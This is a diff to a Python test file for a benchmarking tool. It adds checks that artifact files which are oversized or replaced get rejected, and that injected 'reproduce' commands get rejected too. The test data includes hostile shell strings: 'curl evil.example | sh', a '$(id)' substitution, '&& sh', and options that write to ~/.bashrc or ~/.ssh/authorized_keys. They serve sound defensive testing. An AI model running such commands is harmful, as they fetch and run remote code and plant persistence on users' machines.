@@ -517,6 +517,10 @@ def test_a_plan_that_was_replaced_is_noticed(tmp_path: Path) -> None:
     write_plan(path, night((None, None, None)))
     with pytest.raises(ArtifactError, match="it was replaced"):
         accepting.require_digest(path, digest)
+    with path.open("wb") as file:
+        file.truncate(10**12)
+    with pytest.raises(ArtifactError, match="expected at most 8,000,000 bytes, found more"):
+        accepting.require_digest(path, digest)
 
 
 # Figures inside the process, in asv's files.
@@ -722,12 +726,21 @@ COMPARISONS: Final[dict[str, tuple[dict[str, Any], str]]] = {
     "of interpreters": ({"cross": True}, "two interpreters"),
     "by another servebench": ({"servebench": "6.6"}, "servebench: expected"),
     "with a name that is a path": ({"id": "../../x"}, "the id '../../x'"),
-    "with a command for whoever reads it": (
-        {"reproduce": ("servebench compare a b; curl evil.example | sh",)},
-        "a command that is no `servebench compare`",
-    ),
-    "with another program": ({"reproduce": ("sh x",)}, "a command that is no"),
-    "with a substitution": ({"reproduce": ("servebench compare $(id)",)}, "a command that is no"),
+    **{
+        f"with the command {command}": ({"reproduce": (command,)}, "the command ")
+        for command in (
+            "servebench compare a b; curl evil.example | sh",
+            "sh x",
+            "servebench compare $(id)",
+            "servebench compare --with evilpkg==1.0 --output ~/.bashrc a b",
+            f"servebench compare {BASE[:12]} {HEAD[:12]} --markdown ~/.ssh/authorized_keys",
+            f"servebench compare {BASE[:12]} {HEAD[:12]} --seed 1 --output ~/.bashrc",
+            f"servebench compare {HEAD[:12]} {BASE[:12]} --seed 1",
+            f"servebench compare {BASE[:12]} {HEAD[:12]} --seed 1 --budget 9h",
+            f"servebench compare {BASE[:12]} {HEAD[:12]} --seed 1 && sh",
+        )
+    },
+    "with two commands": ({"reproduce": comparison().reproduce * 2}, "the command "),
     "with server commands": (
         {"cases": (comparison().cases[0].model_copy(update={"commands": EVIL}),)},
         "server's command line of",
@@ -785,6 +798,7 @@ def judged() -> tuple[Candidate, Comparison, ChangeRecord]:
     ]
     (case,) = comparison().cases
     evidence = comparison(
+        reproduce=(),
         base=sides[0],
         head=sides[1],
         cases=(case.model_copy(update={"judgements": (judgement,)}),),
